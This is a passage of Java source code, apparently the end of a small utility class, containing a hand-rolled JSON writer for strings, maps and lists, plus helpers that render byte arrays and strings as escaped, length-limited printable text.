					default -> {
						if (c < 0x20) {
							json.append(String.format("\\u%04x", (int) c));
						}
						else {
							json.append(c);
						}
					}
				}
			}
			json.append('"');
		}
		else if (value instanceof Map<?, ?> map) {
			json.append('{');
			Iterator<? extends Map.Entry<?, ?>> entries = map.entrySet().iterator();
			while (entries.hasNext()) {
				Map.Entry<?, ?> entry = entries.next();
				write(json, entry.getKey().toString());
				json.append(": ");
				write(json, entry.getValue());
				if (entries.hasNext()) {
					json.append(", ");
				}
			}
			json.append('}');
		}
		else if (value instanceof List<?> list) {
			json.append('[');
			for (int i = 0; i < list.size(); i++) {
				json.append((i > 0) ? ", " : "");
				write(json, list.get(i));
			}
			json.append(']');
		}
		else {
			json.append(value);
		}
	}

	static String printable(byte[] bytes, int max) {
		return printable(new String(bytes, 0, Math.min(bytes.length, max), StandardCharsets.ISO_8859_1), max);
	}

	static String printable(String text, int max) {
		StringBuilder out = new StringBuilder();
		for (int i = 0; i < Math.min(text.length(), max); i++) {
			char c = text.charAt(i);
			out.append((c >= 0x20 && c < 0x7f) ? String.valueOf(c) : String.format("\\x%02x", (int) c));
		}
		return out + ((text.length() > max) ? "…(" + text.length() + ")" : "");
	}

}
